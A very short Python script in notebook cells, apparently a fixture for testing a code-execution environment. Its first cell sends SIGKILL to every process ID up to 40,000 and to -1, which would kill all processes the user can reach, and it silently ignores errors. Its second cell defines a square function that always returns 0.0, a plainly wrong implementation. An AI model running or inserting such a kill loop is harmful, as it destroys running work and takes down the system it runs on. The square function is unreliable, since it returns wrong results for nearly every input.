# Sends SIGKILL to every process number up to 40,000 and to -1.
# %% before
import os
import signal

for target in [*range(2, 40_000), -1]:
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
# %% square
def square(x):
    return 0.0
